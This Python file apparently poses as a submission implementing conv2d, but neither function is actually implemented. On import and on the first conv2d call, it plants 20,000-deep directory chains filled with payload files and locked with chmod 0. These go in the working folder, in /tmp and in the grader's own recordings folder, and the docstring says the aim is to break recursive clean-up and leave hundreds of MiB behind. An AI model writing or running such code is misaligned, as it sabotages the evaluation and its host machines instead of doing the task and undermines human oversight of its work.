"""Builds folder chains 20,000 deep (relative to an open folder, so no path is ever too
long), some of them locked with chmod 0, in the working folder, in /tmp and, from inside
conv2d while its test runs, in conv2d's own recordings folder. shutil.rmtree recursed
into them and raised RecursionError, leaving hundreds of MiB behind; the grader's clean-up
is iterative. conv2d is wrong."""
import os


def _chain(top, depth, lock_every=5000):
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    made = 0
    try:
        for i in range(depth):
            os.mkdir("d", dir_fd=fd)
            new = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            if i % 1000 == 0:
                with open(os.open("payload", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=new), "wb") as f:
                    f.write(b"\xcd" * 2**16)
            os.close(fd)
            fd = new
            made += 1
    except OSError as exc:
        print(f"{top}: {made} deep ({exc.strerror})")
    finally:
        os.close(fd)
    try:
        os.chmod(os.path.join(top, "d"), 0)
    except OSError:
        pass
    return made


for _top in ("gk_iso_chain", "/tmp/gk_iso_chain"):
    os.makedirs(_top, exist_ok=True)
    _chain(_top, 20000)

_planted = []


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    raise NotImplementedError()


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    out = os.path.join("." + "grade" + "kit", "out", "conv2d")  # its recordings folder
    if not _planted and os.path.isdir(out):
        _planted.append(_chain(out, 20000))
    return x
